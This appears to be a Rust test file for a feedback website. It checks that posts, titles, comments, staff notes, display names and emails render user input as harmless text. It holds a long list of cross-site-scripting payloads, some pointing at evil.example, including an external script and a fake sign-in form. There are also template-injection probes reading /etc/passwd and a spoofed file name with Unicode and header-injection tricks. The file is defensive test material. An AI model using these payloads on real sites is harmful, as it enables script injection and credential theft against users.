//! What people write stays text: titles, posts, comments, notes and names that try to be something else.

use super::Room;
use crate::support::people::number_of;
use crate::support::{Browser, Page, on_each_engine};
use scraper::ElementRef;

/// Ways to say "run this" that browsers have known.
const RUNS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<isindex action=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<div style=\"position:fixed;inset:0;background:url(javascript:alert(1))\">x</div>",
    "<p style=\"behavior:url(x)\">x</p>",
    "<style>*{display:none}</style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<a href=\"https://a.example\" onclick=\"alert(1)\">x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<\u{0}script>alert(1)</script>",
    "<script>alert(1)//",
    "javascript:alert(1)",
    "{{7*7}}",
    "${7*7}",
    "{% include \"/etc/passwd\" %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

/// Markdown that may carry it; `%` stands for it.
const CARRIERS: &[&str] = &[
    "%",
    "[x](%)",
    "[x](<%>)",
    "[x](https://a.example \"%\")",
    "![%](https://a.example/x.png)",
    "![x](%)",
    "<%>",
    "`%`",
    "    %",
    "> %",
    "- %",
    "# %",
    "| a |\n|---|\n| % |",
    "**%**",
    "```%\n%\n```",
    "[x]: %\n\n[x]",
    "[%](https://a.example)",
];

/// Elements a text may become.
const TEXT: &[&str] = &[
    "p",
    "br",
    "hr",
    "em",
    "strong",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

/// Nothing on the page runs, and what people wrote is text.
fn is_harmless(page: &Page) {
    let document = page.document();
    for element in document.root_element().descendants().filter_map(ElementRef::wrap) {
        let name = element.value().name();
        let known = [
            "html", "head", "meta", "title", "link", "body", "header", "nav", "main", "footer", "div", "section",
            "form", "button", "svg", "use", "img", "span", "time", "ul",
        ];
        assert!(
            !["style", "iframe", "object", "embed", "base", "template", "math", "animate"].contains(&name)
                || known.contains(&name),
            "<{name}> on {}",
            page.path
        );
        if name == "script" {
            let src = element.value().attr("src").unwrap_or_default();
            assert!(src.starts_with("/static/") && element.inner_html().is_empty(), "<script> on {}", page.path);
        }
        for (attribute, value) in element.value().attrs() {
            let value = value.trim().to_lowercase();
            assert!(
                !attribute.starts_with("on") && attribute != "style" && attribute != "srcdoc",
                "{attribute} on {}: {value}",
                page.path
            );
            if matches!(attribute, "href" | "src" | "action" | "formaction" | "xlink:href" | "data") {
                let scheme: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
                let runs = ["javascript:", "vbscript:", "data:"].iter().any(|start| scheme.starts_with(start));
                assert!(!runs, "{attribute}={value} on {}", page.path);
            }
        }
        if name == "form" {
            assert!(element.value().attr("action").unwrap_or("/").starts_with('/'), "a foreign form on {}", page.path);
        }
        if name == "meta" {
            assert!(element.value().attr("http-equiv").is_none());
        }
    }
    let prose = scraper::Selector::parse(".prose *").unwrap();
    for element in document.select(&prose) {
        assert!(TEXT.contains(&element.value().name()), "<{}> in a text on {}", element.value().name(), page.path);
        if element.value().name() == "a" && element.value().attr("href").is_some() {
            assert_eq!(element.value().attr("rel"), Some("nofollow ugc noopener"));
        }
    }
}

/// Sends a text, and once more where some of it looks like a secret: now that was seen. The status of the answer.
fn seen(who: &mut Browser, path: &str, fields: &[(&str, &str)]) -> u16 {
    let answer = who.post(path, fields);
    if answer.status != 200 {
        return answer.status;
    }
    let keys = answer.attributes(".masked input[name=seen]", "value");
    let keys: Vec<(&str, &str)> = keys.iter().map(|key| ("seen", key.as_str())).collect();
    who.post(path, &[fields, &keys].concat()).status
}

#[test]
fn nothing_that_people_write_runs() {
    on_each_engine(|app| {
        let mut room = Room::of(app);
        let tricks: Vec<String> =
            CARRIERS.iter().flat_map(|carrier| RUNS.iter().map(|run| carrier.replace('%', run))).collect();
        assert!(tricks.len() >= 500);
        // Alone in a post, where they begin a block, and many in one text.
        let edit = room.site.path("/posts/{number}/edit");
        let fields = |body: &str| {
            [("kind", "bug"), ("title", "Dark mode for the dialler"), ("body", body), ("area", "camera")]
                .map(|(name, value)| (name, value.to_owned()))
        };
        let alone = RUNS.iter().map(|run| (*run).to_owned());
        let together = tricks.chunks(40).map(|some| some.join("\n\n"));
        for body in alone.chain(together) {
            let fields = fields(&body);
            let fields: Vec<(&str, &str)> = fields.iter().map(|(name, value)| (*name, value.as_str())).collect();
            assert_eq!(seen(&mut room.author, &edit, &fields), 303, "{body}");
            is_harmless(&room.people.staff.get(&room.site.path("{open}")));
            is_harmless(&room.author.get(&edit));
        }
        is_harmless(&room.people.staff.get(&room.site.path("/posts/{number}/edits")));
        // In comments and in staff's notes.
        let comments = room.site.path("/posts/{number}/comments");
        for run in RUNS {
            assert_eq!(seen(&mut room.people.member, &comments, &[("body", run)]), 303);
        }
        let note = RUNS.join("\n\n");
        let decided = [("status", "planned"), ("note", note.as_str())];
        assert_eq!(room.people.staff.post(&room.site.path("/posts/{number}/decision"), &decided).status, 303);
        for path in ["{open}", "{open}?page=2", "/", "/roadmap", "/triage"] {
            is_harmless(&room.people.staff.get(&room.site.path(path)));
        }
    });
}

#[test]
fn a_title_is_one_line_of_text_wherever_it_stands() {
    on_each_engine(|app| {
        let mut room = Room::of(app);
        for run in RUNS.iter().filter(|run| run.chars().count() >= 4) {
            let path = room.author.post(
                "/posts",
                &[
                    ("kind", "request"),
                    ("title", run),
                    ("area", "camera"),
                    ("device", run),
                    ("build", &run[..run.len().min(20)]),
                ],
            );
            if [200, 422].contains(&path.status) {
                // A trick longer than a device's name, or one that looks like a secret.
                assert!(path.all("#title-error").is_empty());
                is_harmless(&path);
                continue;
            }
            let page = room.author.visit(&path.location());
            let shown: String = run.chars().filter(|c| !c.is_control() || c.is_whitespace()).collect();
            assert_eq!(page.one("h1"), shown.split_whitespace().collect::<Vec<_>>().join(" "));
            is_harmless(&page);
        }
        for path in ["/", "/?sort=new", "/roadmap", "/triage", "/people/wilma", "/releases.atom"] {
            is_harmless(&room.people.staff.get(path));
        }

        let sly = "Pay\u{202E}gnp.exe\u{0}\u{1b}[31m\r\nBcc: x\u{2066}  now";
        let path = room.author.files("bug", sly, "camera");
        let page = room.author.get(&path);
        let heading =
            page.document().select(&scraper::Selector::parse("h1").unwrap()).next().unwrap().text().collect::<String>();
        assert!(!heading.contains(['\u{202E}', '\u{0}', '\u{1b}', '\r', '\n']), "{heading:?}");
        assert!(page.one("h1").starts_with("Paygnp.exe[31m Bcc: x"), "{heading:?}");
        assert!(!app.tables().0["posts"].iter().any(|row| row.contains('\u{202E}')));
        assert!(number_of(&path) > 3);
    });
}

#[test]
fn a_name_is_text_too_on_pages_and_in_mails() {
    on_each_engine(|app| {
        let mut room = Room::of(app);
        for run in
            ["<img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "</title><script>x</script>", "&lt;b&gt;"]
        {
            let fields = [("name", run), ("handle", "wilma")];
            assert_eq!(room.author.post("/settings", &fields).status, 303, "{run}");
            for path in ["/settings", "/people/wilma", "{open}", "/releases/26.11.20", "/triage", "/"] {
                let path = room.site.path(path);
                is_harmless(&room.people.staff.get(&path));
                is_harmless(&room.author.get(&path));
            }
            assert_eq!(room.people.visitor.get("/people/wilma").one("h1"), run);
        }
        let decided = [("status", "planned"), ("note", "<script>alert(1)</script> & <b>more</b>")];
        assert_eq!(room.people.staff.post(&room.site.path("/posts/{number}/decision"), &decided).status, 303);
        let mail = app.mails_to("wilma@example.org").pop().unwrap();
        let document = scraper::Html::parse_document(&mail.html);
        let bad = scraper::Selector::parse("script, img, iframe, form, [onmouseover], [onerror]").unwrap();
        assert_eq!(document.select(&bad).count(), 0, "{}", mail.html);
        assert!(mail.all("bcc").is_empty() && mail.all("subject").len() == 1);
    });
}
